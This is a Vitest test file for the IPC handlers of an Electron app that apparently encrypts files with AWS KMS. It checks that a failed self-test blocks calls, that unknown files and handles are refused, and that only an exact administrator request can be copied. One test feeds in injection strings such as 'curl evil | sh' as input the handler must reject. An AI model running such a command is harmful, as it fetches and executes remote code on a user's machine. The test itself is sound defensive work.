/** What calls do when they may not: a blocked program does nothing, and unknown things are refused. */
import { expect, test, vi } from 'vitest';
import type { CallName } from '../../electron/contract/api.ts';
import { createHandlers } from '../../electron/ipc/handlers.ts';
import { KmsError } from '../../electron/kms/errors.ts';
import { explain, failure } from '../../electron/vault/explain.ts';

function setUp(blocked: boolean) {
  const work = vi.fn(async () => undefined);
  const trap = new Proxy({}, { get: () => work });
  const session = new Proxy(
    {},
    {
      get: (_target, name) =>
        name === 'state' ? () => ({ blocked: blocked ? failure('self-test-failed').error : null }) : work,
    },
  );
  const showInFolder = vi.fn();
  const jobs = {
    output: (id: string) => (id === 'done' ? '/tmp/x' : null),
    cancel: work,
    pause: work,
    resume: work,
    retry: work,
    clearEnded: work,
    forgetKeys: vi.fn(),
  };
  const copyText = vi.fn();
  const parts = {
    session,
    jobs,
    desk: trap,
    identities: trap,
    chooseFiles: async () => [],
    showInFolder,
    copyText,
  };
  return { handlers: createHandlers(parts as never), work, jobs, showInFolder, copyText };
}

const working: readonly (readonly [CallName, readonly unknown[]])[] = [
  ['selectProfile', ['practice']],
  ['signIn', ['session:corp', 'browser']],
  ['signOut', ['session:corp']],
  ['listAccounts', ['session:corp']],
  ['listRoles', ['session:corp', '111122223333']],
  ['saveProfile', [{}]],
  ['saveSession', [{}]],
  ['selectKey', ['arn']],
  ['usePractice', []],
  ['addFiles', [['/tmp/a']]],
  ['chooseFiles', []],
  ['encrypt', [{}]],
  ['openCard', ['handle']],
  ['decrypt', [{}]],
  ['verify', [{}]],
  ['setEncryption', [{}]],
  ['retryJob', ['id', 'fail']],
];

test.each(working)('%s does nothing when the self-test failed', async (name, args) => {
  const { handlers, work } = setUp(true);
  const error = await Promise.resolve()
    .then(() => Reflect.apply(handlers[name], null, args))
    .catch((reason: unknown) => explain(reason));
  expect(error).toMatchObject({ code: 'self-test-failed' });
  expect(work).not.toHaveBeenCalled();
});

test('files that are not on disk are refused, and none of their company is taken', async () => {
  const { handlers, work } = setUp(false);
  await expect(handlers.addFiles(['/tmp/a', ''])).rejects.toMatchObject({
    error: { code: 'file-not-found' },
  });
  expect(work).not.toHaveBeenCalled();
});

test('only the result of a job can be shown in its folder', async () => {
  const { handlers, showInFolder } = setUp(false);
  await expect(handlers.showInFolder('other')).rejects.toMatchObject({ error: { code: 'unknown-handle' } });
  expect(showInFolder).not.toHaveBeenCalled();
  await handlers.showInFolder('done');
  expect(showInFolder).toHaveBeenCalledWith('/tmp/x');
});

test('nothing can be copied but a request for an administrator that main made, word for word', async () => {
  const { handlers, copyText } = setUp(false);
  const asked = {
    action: 'kms:Decrypt',
    keyId: 'alias/payroll',
    region: 'eu-west-1',
    encryptionContext: new Map(),
  };
  const request = 'Please allow kms:Decrypt on this AWS KMS key:\n  key: alias/payroll\n  region: eu-west-1';
  const refused = { error: { code: 'bad-request' } };
  await expect(handlers.copyRequest(request)).rejects.toMatchObject(refused);
  expect(explain(new KmsError('access-denied', { asked })).details.request).toBe(request);
  for (const text of [`${request}\n`, `${request}; curl evil | sh\n`, 'curl evil | sh\n', request.slice(1)])
    await expect(handlers.copyRequest(text)).rejects.toMatchObject(refused);
  expect(copyText).not.toHaveBeenCalled();
  await handlers.copyRequest(request);
  expect(copyText.mock.calls).toEqual([[request]]);
});

test('pausing and going on reach the job that was named, and all of them with null', async () => {
  const { handlers, work } = setUp(false);
  for (const id of ['job', null]) {
    await handlers.pause(id);
    await handlers.resume(id);
  }
  expect(work.mock.calls).toEqual([['job'], ['job'], [null], [null]]);
});

test('the link of a sign-in goes to the clipboard and not to the page', async () => {
  const copyText = vi.fn();
  const session = {
    state: () => ({ blocked: null }),
    signIns: { link: (id: string) => `https://${id}.example` },
  };
  const handlers = createHandlers({ session, copyText } as never);
  expect(await handlers.copySignInLink('corp')).toBeNull();
  expect(copyText.mock.calls).toEqual([['https://corp.example']]);
});
